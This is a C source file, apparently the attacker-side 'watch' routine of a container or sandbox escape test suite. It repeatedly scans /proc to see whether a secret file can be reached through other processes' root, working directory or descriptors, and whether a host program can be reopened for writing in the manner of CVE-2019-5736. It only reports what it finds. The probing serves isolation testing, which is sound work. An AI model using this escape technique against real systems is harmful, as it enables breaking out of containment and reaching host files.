/* watch SECRET STOP: walks through every process that it can see, again and again until STOP exists: through its root, its
 * working directory, its descriptors, to SECRET; through its program to a file that could be written. */
#include <dirent.h>
#include <sys/mman.h>
#include <sys/stat.h>

#include "attacker.h"

static const char up[] = "../../../../../../../../../..";

static int reaches(const char *way, const char *secret) {
  char path[8192];
  snprintf(path, sizeof path, "%s/%s%s", way, up, secret);
  int fd = open(path, O_PATH);
  if (fd < 0) {
    snprintf(path, sizeof path, "%s%s", way, secret);
    fd = open(path, O_PATH);
  }
  if (fd < 0) return 0;
  printf("reached %s\n", path);
  return ESCAPED;
}

/* A program of another file system than ours is the host's: opened for reading, and once its process is gone for writing
 * (CVE-2019-5736). Changing its mode needs no writing at all. */
static int program(const char *pid, dev_t own) {
  char path[512];
  struct stat st;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  int result = 0;
  if (fstat(fd, &st) == 0 && st.st_dev != own) {
    bool sealed = (fcntl(fd, F_GET_SEALS) & (F_SEAL_WRITE | F_SEAL_SHRINK)) == (F_SEAL_WRITE | F_SEAL_SHRINK);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int tries = 0; tries < 1000 && result == 0; tries++) {
      int writable = open(path, O_WRONLY);
      if (writable >= 0 && !sealed) {
        printf("the program of %s can be written\n", pid);
        result = ESCAPED;
      }
      if (writable < 0 && errno != ETXTBSY) break;
      if (writable >= 0) close(writable);
      if (sealed) break;
    }
    printf("saw the program of %s%s\n", pid, sealed ? ", sealed" : "");
  }
  close(fd);
  return result;
}

static int look_through(const char *pid, const char *secret, dev_t own) {
  char path[512];
  int result = program(pid, own);
  const char *const ways[] = {"root", "cwd"};
  for (size_t i = 0; i < 2 && result == 0; i++) {
    snprintf(path, sizeof path, "/proc/%s/%s", pid, ways[i]);
    result = reaches(path, secret);
  }
  for (int fd = 0; fd < 24 && result == 0; fd++) {
    snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, fd);
    result = reaches(path, secret);
  }
  return result;
}

int watch_main(int argc, char **argv) {
  struct stat self;
  if (argc != 3 || stat("/proc/self/exe", &self) < 0) return 2;
  puts("watching");
  fflush(stdout);
  char own[16];
  snprintf(own, sizeof own, "%d", getpid());
  while (access(argv[2], F_OK) < 0) {
    DIR *processes = opendir("/proc");
    if (processes == NULL) return 2;
    for (struct dirent *entry; (entry = readdir(processes)) != NULL;) {
      if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || strcmp(entry->d_name, own) == 0) continue;
      int result = look_through(entry->d_name, argv[1], self.st_dev);
      if (result != 0) {
        fflush(stdout);
        return result;
      }
    }
    closedir(processes);
  }
  return 0;
}
